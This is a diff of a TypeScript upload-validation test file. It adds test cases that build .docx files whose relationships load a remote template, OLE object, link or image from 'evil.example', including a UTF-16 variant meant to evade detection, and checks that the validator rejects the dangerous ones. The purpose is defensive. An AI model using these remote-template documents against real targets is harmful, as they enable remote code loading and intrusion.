@@ -62,10 +62,21 @@ const several = (count: number) => Array.from({ length: count }, (_, index) => p
 const notDocument = english(uploadKinds.document.refused)
 const notPicture = english(uploadKinds.photo.refused)
 const withMacros = 'Documents with macros are not accepted. Save it without macros.'
+const withRemoteTemplate =
+  'Documents that load a template or another file from elsewhere are not accepted. Save it as PDF, or attach another template.'
+const relationsOf = (...kinds: string[]) =>
+  `<Relationships>${kinds.map((kind) => `<Relationship Id="x" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="https://evil.example/x" TargetMode="External"/>`).join('')}</Relationships>`
+const docxWith = (...kinds: string[]) =>
+  docx('cv.docx', { name: 'word/_rels/settings.xml.rels', content: relationsOf(...kinds) })
+const docxInUtf16 = (kind: string) =>
+  docx('cv.docx', {
+    name: 'word/_rels/settings.xml.rels',
+    content: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(relationsOf(kind), 'utf16le')]),
+  })
 const unreadable = "This picture can't be read. It may be incomplete."
 const tooLarge = english(filesTexts.tooLarge(maxFileBytes))
 
-// The 28 files: each with the expected status and message.
+// The 32 files: each with the expected status and message.
 type Send = () => Promise<{ status: number; result: { message?: unknown } }>
 const corpus: readonly (readonly [name: string, status: number, send: Send, message?: string])[] = [
   ['a pdf', 200, () => changeCv(pdf())],
@@ -82,6 +93,10 @@ const corpus: readonly (readonly [name: string, status: number, send: Send, mess
   ['svg', 400, () => changeImage(fileOf('me.svg', svg)), notPicture],
   ['a zip named .docx', 400, () => changeCv(fileOf('cv.docx', zip([{ name: 'cv.txt' }]))), notDocument],
   ['a docx with vbaProject.bin', 400, () => changeCv(docx('cv.docx', { name: 'word/vbaProject.bin' })), withMacros],
+  ['a docx with links and pictures from elsewhere', 200, () => changeCv(docxWith('hyperlink', 'image'))],
+  ['a docx with a remote template', 400, () => changeCv(docxWith('attachedTemplate')), withRemoteTemplate],
+  ['a docx with a remote object', 400, () => changeCv(docxWith('hyperlink', 'oleObject')), withRemoteTemplate],
+  ['a docx with a remote template in UTF-16', 400, () => changeCv(docxInUtf16('attachedTemplate')), withRemoteTemplate],
   ['a docm named .docx', 400, () => changeCv(docm('cv.docx')), withMacros],
   ['an xlsx named .docx', 400, () => changeCv(xlsx('cv.docx')), notDocument],
   ['an exe with a pdf in it', 400, () => changeCv(fileOf('cv.pdf', 'MZ', Buffer.alloc(1022), '%PDF-1.4')), notDocument],
@@ -117,7 +132,7 @@ const entries = (count: number) => Array.from({ length: count }, (_, index) => (
 const half = async (file: File) => fileOf(file.name, (await bytesOf(file)).subarray(0, file.size / 2))
 
 describe('file uploads', () => {
-  test('cover 28 files', () => expect(corpus).toHaveLength(28))
+  test('cover 32 files', () => expect(corpus).toHaveLength(32))
 
   test.each(corpus.map(([name, status, send, message]) => ({ name, status, send, message })))(
     '$name: $status',
